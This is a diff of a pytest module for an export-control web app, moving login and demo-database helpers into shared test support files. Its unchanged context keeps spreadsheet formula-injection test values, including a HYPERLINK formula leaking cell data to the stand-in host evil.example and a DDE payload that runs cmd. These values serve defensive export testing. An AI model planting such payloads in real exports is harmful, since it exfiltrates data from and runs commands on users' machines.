@@ -15,7 +15,6 @@ import pytest
 from fastapi.testclient import TestClient
 from sqlalchemy import select
 
-from exportctl.demo import DEMO_PASSWORD, load_demo
 from exportctl.http.app import create_app
 from exportctl.http.web import worklists as worklist_pages
 from exportctl.http.web.i18n import MESSAGES
@@ -23,12 +22,11 @@ from exportctl.order_input import LineInput, OrderInput
 from exportctl.screening.screener import Screener
 from exportctl.services import actors, auth, orders, records
 from exportctl.services.actors import Actor, Role
-from exportctl.services.auth import RateLimiter
 from exportctl.store import db as store
 from exportctl.store.models import Order, PartyHit
+from tests.support.demo_db import demo_database
+from tests.support.web_client import VIEWER, client, logged_in
 
-VIEWER = ("vera", "viewer-password")
-CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 HOSTILE_NUMBER = "@SUM(1+1)"
 HOSTILE_REASON = '+cmd|" /C calc"!A0'
@@ -37,10 +35,9 @@ DEMO_LAST_SHIP_DATE = "2019-12-23"  # SO-2019-0106, the demo's last order (demo.
 
 @pytest.fixture(scope="module")
 def database(tmp_path_factory: pytest.TempPathFactory, screener: Screener) -> Iterator[str]:
-    url = f"sqlite:///{tmp_path_factory.mktemp('worklists') / 'exportctl.db'}"
+    url = demo_database(tmp_path_factory.mktemp("worklists"), screener)
     officer = Actor("olga", Role.OFFICER)
     with store.session(url) as db:
-        load_demo(db, actors.SYSTEM, screener)
         records.add_user(db, actors.SYSTEM, VIEWER[0], "viewer")
         auth.set_password(db, actors.SYSTEM, VIEWER[0], VIEWER[1])
         # A consignee whose name is a spreadsheet formula, on an order whose number is one: HF to Korea after
@@ -64,27 +61,9 @@ def database(tmp_path_factory: pytest.TempPathFactory, screener: Screener) -> It
     store.engine(url).dispose()
 
 
-@pytest.fixture(autouse=True)
-def fresh_limiter(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(auth, "LIMITER", RateLimiter())
-
-
 @pytest.fixture(scope="module")
 def app_for(database: str, screener: Screener) -> object:
     return create_app(database_url=database, screener=screener)
-
-
-def client(app: object) -> TestClient:
-    return TestClient(app, follow_redirects=False)  # type: ignore[arg-type]
-
-
-def logged_in(app: object, name: str, password: str = DEMO_PASSWORD) -> TestClient:
-    browser = client(app)
-    found = CSRF.search(browser.get("/login").text)
-    assert found
-    response = browser.post("/login", data={"name": name, "password": password, "csrf_token": found.group(1)})
-    assert response.status_code == 303, response.text
-    return browser
 
 
 @pytest.fixture
